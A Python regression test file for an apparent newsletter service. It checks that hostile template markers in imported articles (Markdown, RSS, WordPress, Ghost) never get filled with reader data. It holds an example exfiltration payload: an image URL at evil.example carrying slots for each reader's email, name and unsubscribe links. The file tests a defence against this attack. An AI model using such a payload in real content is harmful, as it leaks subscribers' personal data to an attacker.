"""Regression tests for the outside attack on the service (issue 16), one per finding,
named after it. The web-facing findings are in test_web_security.py."""

from __future__ import annotations

import email
import email.policy
import json
from email.message import EmailMessage
from pathlib import Path

from sqlalchemy.orm import Session

from newsletter.content.models import Article, Series
from newsletter.content.sources import import_sources
from newsletter.db import utcnow
from newsletter.delivery.mailers import MemoryMailer
from newsletter.delivery.sending import ChunkSender
from tests.factories import add_member, make_list, settings_for, start_run

# What a hostile feed author writes: every reader's address and permanent links.
MARKERS = "e=__slot_email__&p=__slot_preferences_url__&u=__slot_unsubscribe_url__&n=__slot_name__"
EVIL_IMAGE = f"https://evil.example/p.gif?{MARKERS}"


def send_digest(session: Session, database_url: str) -> list[EmailMessage]:
    """A digest of the latest articles to two readers, sent for real (memory mailer)."""
    from newsletter.campaigns.service import ContentSpec, create_campaign

    news = make_list(session)
    add_member(session, news, "ann@example.org", "Ann")
    add_member(session, news, "bob@example.org", "Bob")
    campaign = create_campaign(
        session, name="d", list_slugs=["clinic-news"], subject="News", content=ContentSpec(latest=5)
    )
    session.commit()
    _, chunks = start_run(session, campaign)
    mailer = MemoryMailer()
    sender = ChunkSender(settings_for(database_url), mailer)
    for chunk in chunks:
        sender.send_chunk(session, chunk, "claim")
    return [
        email.message_from_bytes(m.data, policy=email.policy.default)  # type: ignore[misc]
        for m in mailer.messages
    ]


def assert_no_reader_data_in_content(messages: list[EmailMessage]) -> None:
    assert len(messages) == 2
    for message in messages:
        reader = str(message["To"].addresses[0].addr_spec)
        for part in message.walk():
            if part.get_content_type() not in ("text/html", "text/plain"):
                continue
            body = part.get_content()
            # The marker text is shown as written, never filled...
            assert f"e={reader}" not in body
            assert "p=https://" not in body and "u=https://" not in body
            assert "n=Ann" not in body and "n=Bob" not in body


def test_H1_markers_in_every_article_field_of_old_rows_never_reach_a_reader(
    session: Session, database_url: str
) -> None:
    # Rows written before markers were neutralised on import: the render must not care.
    series = Series(slug="s", title=f"Series {MARKERS}")
    session.add(series)
    session.flush()
    session.add(
        Article(
            slug="evil",
            title=f"Title {MARKERS}",
            summary=f"Summary {MARKERS}",
            body_html=f'<p>Body {MARKERS}</p><img src="{EVIL_IMAGE}">',
            author=f"Author {MARKERS}",
            url=f"https://clinic.example/a?{MARKERS}",
            image=EVIL_IMAGE,
            tags=[f"tag {MARKERS}"],
            published_at=utcnow(),
            series_id=series.id,
            position=1,
        )
    )
    session.commit()

    messages = send_digest(session, database_url)

    assert_no_reader_data_in_content(messages)
    html = messages[0].get_body(("html",))
    assert html is not None and "__slot_email__" in html.get_content()


def test_H1_markers_through_every_importer_never_reach_a_reader(
    session: Session, database_url: str, tmp_path: Path
) -> None:
    (tmp_path / "md").mkdir()
    (tmp_path / "md" / "2024-01-02-evil.md").write_text(
        f"---\ntitle: Markdown {MARKERS}\nsummary: {MARKERS}\nimage: {EVIL_IMAGE}\n"
        f"author: {MARKERS}\n---\nBody ![x]({EVIL_IMAGE}) {MARKERS}\n"
    )
    (tmp_path / "feed.xml").write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>F</title>'
        f"<item><guid>1</guid><title>Feed {MARKERS.replace('&', '&amp;')}</title>"
        "<pubDate>Mon, 01 Jan 2024 10:00:00 GMT</pubDate>"
        f'<description>&lt;img src="{EVIL_IMAGE.replace("&", "&amp;amp;")}"&gt;</description>'
        f'<enclosure url="{EVIL_IMAGE.replace("&", "&amp;")}" type="image/gif"/>'
        "</item></channel></rss>"
    )
    (tmp_path / "wp.xml").write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>Site</title>'
        f"<item><title>WordPress {MARKERS.replace('&', '&amp;')}</title>"
        f'<content:encoded><![CDATA[<img src="{EVIL_IMAGE}"> {MARKERS}]]></content:encoded>'
        "<wp:post_id>1</wp:post_id><wp:post_date_gmt>2024-01-03 10:00:00</wp:post_date_gmt>"
        "<wp:post_name>wp-evil</wp:post_name><wp:status>publish</wp:status>"
        "<wp:post_type>post</wp:post_type></item></channel></rss>"
    )
    post = {
        "id": "p1",
        "title": f"Ghost {MARKERS}",
        "slug": "ghost-evil",
        "html": f'<p><img src="{EVIL_IMAGE}"> {MARKERS}</p>',
        "feature_image": EVIL_IMAGE,
        "status": "published",
        "type": "post",
        "published_at": "2024-01-04T08:00:00.000Z",
    }
    (tmp_path / "ghost.json").write_text(json.dumps({"db": [{"data": {"posts": [post]}}]}))
    sources = [str(tmp_path / n) for n in ("md", "feed.xml", "wp.xml", "ghost.json")]

    report = import_sources(session, sources)

    assert report.imported == 4, report.problems
    assert_no_reader_data_in_content(send_digest(session, database_url))
